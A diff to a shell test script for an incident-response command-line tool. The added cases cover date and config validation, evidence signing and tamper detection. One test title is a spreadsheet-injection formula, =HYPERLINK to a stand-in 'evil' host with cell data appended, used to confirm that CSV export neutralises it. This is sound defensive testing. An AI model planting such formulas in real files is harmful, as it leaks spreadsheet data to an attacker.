@@ -40,6 +40,18 @@ expect_rc 64 V frobnicate
 expect_rc 64 V show
 expect_rc 64 V new --aware yesterday --title x
 expect_rc 66 V show 99 # no such incident (the store is created)
+# awareness in the future (a typo in the year) would push every deadline
+# out of sight; 0 would read as "not given"
+expect_rc 64 V new --title x --aware 2062-03-27T09:00:00Z
+expect_rc 64 V new --title x --aware 1970-01-01T00:00:00Z
+
+# bad incident: values are refused with their file and line, before
+# anything opens (not by a component that will not start)
+for bad in "timezone: Mars/Olympus" "min_level: urgent"; do
+    printf 'state_dir: %s\nincident:\n  %s\n' "$T/badstate" "$bad" >"$T/bad.yml"
+    expect_rc 78 "$VIGIL_BIN" incident -c "$T/bad.yml" list
+    grep -q "bad.yml:3:" "$T/err" || fail "'$bad' without file:line: $(cat "$T/err")"
+done
 
 # open by hand from a playbook, with the moment of awareness given
 V new --title "Ransomware on the file server" --kind ransomware --by ann \
@@ -140,6 +152,17 @@ assert r["num"] == "1" and r["people"] == "1200", r
 assert "uk-gdpr-33: met ICO case 12345" in r["notifications"], r
 assert r["keep_until"] == "2031-03-27T08:00:00+00:00", r  # Quebec: 5 years from awareness
 PY
+# a title a spreadsheet would run: = + - @, and a tab or carriage
+# return before one (skipped by some spreadsheets), are all made text
+V new --title $'\t=HYPERLINK("http://evil/?"&A1)' --personal-data yes >/dev/null
+V register --csv >"$T/register.csv"
+python3 - "$T/register.csv" <<'PY' || fail "register CSV injection"
+import csv, sys
+rows = list(csv.DictReader(open(sys.argv[1])))
+t = [r["title"] for r in rows if r["num"] == "3"][0]
+assert t.startswith("'"), repr(t)
+PY
+V close 3 --summary "test entry" >/dev/null
 V close 1 --summary "restored; lessons recorded" --by ann >/dev/null
 [ "$(V show 1 --json | jget 'd["status"]')" = closed ] || fail "close"
 
@@ -149,6 +172,10 @@ python3 "$VERIFY" "$T/INC-1.json" --public-key "$(cat "$S/evidence.pub")" ||
     fail "the export does not verify"
 expect_rc 74 bash -c "cd '$T' && '$VIGIL_BIN' incident -c '$T/vigil.yml' export 1"
 "$VIGIL_BIN" evidence verify --state-dir "$S" | grep -q "intact" || fail "verify intact"
+# the key a verification trusted is shown, to compare with a kept copy
+# (a log rewritten with another key and its evidence.pub swapped verifies)
+"$VIGIL_BIN" evidence verify --state-dir "$S" | grep -q "signed by $(cat "$S/evidence.pub")" ||
+    fail "verify does not show the key it trusted"
 n=$(sqlite3 "$S/vigil.db" "SELECT COUNT(*) FROM evidence_log")
 [ "$n" -ge 15 ] || fail "only $n evidence entries"
 
@@ -214,5 +241,16 @@ tamper_archive timeline 'a["timeline"][1]["text"] = "nothing happened"'
 tamper_archive entry 'e = [x for x in a["evidence"]["entries"] if not x.get("redacted")][2]; e["actor"] = "eve"'
 tamper_archive drop 'del a["evidence"]["entries"][3]'
 tamper_archive cut 'del a["evidence"]["entries"][-1]'
+tamper_archive unshown 'a["timeline"] = [t for t in a["timeline"] if t["what"] != "status"]'
 tamper_archive key 'a["evidence"]["public_key"] = "00" * 32'
+# a lost signing key: a writer makes a new one, but must not sign on top
+# of a log another key signed (a mixed log verifies under neither key)
+d="$T/lostkey"
+mkdir -p "$d"
+cp "$S/vigil.db" "$S/evidence.pub" "$d/"
+sed "s|^state_dir: .*|state_dir: $d|" "$T/vigil.yml" >"$T/lost.yml"
+"$VIGIL_BIN" incident -c "$T/lost.yml" note 1 "after the key was lost" >/dev/null 2>"$T/err" || true
+grep -q "signed by the key" "$T/err" || fail "sealed over another key's head: $(cat "$T/err")"
+[ "$(sqlite3 "$d/vigil.db" "SELECT COUNT(*) FROM evidence_log")" = "$n" ] ||
+    fail "entries signed by a new key on top of the old log"
 echo "PASS: incident life cycle through the CLI; every tampering detected"
